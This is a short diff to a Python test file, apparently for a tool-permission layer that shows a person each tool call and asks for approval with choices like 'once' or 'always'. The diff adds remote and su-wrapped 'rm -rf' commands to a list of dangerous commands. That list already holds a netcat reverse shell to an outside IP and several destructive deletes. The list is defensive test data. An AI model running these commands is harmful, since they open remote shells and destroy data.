@@ -104,7 +104,8 @@ nc -e /bin/sh 1.2.3.4 1
 python -c 'import shutil; shutil.rmtree("x")'
 rm *
 truncate -s 0 x
-ssh host rm -rf x
+ssh -p 22 -i key me@host rm -rf x
+su - me -c "rm -rf x"
 """.strip().split("\n")
 
 HARMLESS = """
@@ -215,7 +216,9 @@ async def test_a_person_is_shown_the_tool_and_its_full_arguments_before_anything
     assert asking.choices == ("once", "this session", "always", "no")
 
 
-@pytest.mark.parametrize(("answer", "questions"), [("once", 2), ("this session", 1), ("always", 1), ("no", 2), ("yes!", 2)])
+@pytest.mark.parametrize(
+    ("answer", "questions"), [("once", 2), ("this session", 1), ("always", 1), ("no", 2), ("yes!", 2)]
+)
 async def test_an_answer_holds_as_long_as_it_says(tmp_path, answer, questions):
     person = Someone(answer)
     tools = toolbox(tmp_path, person)
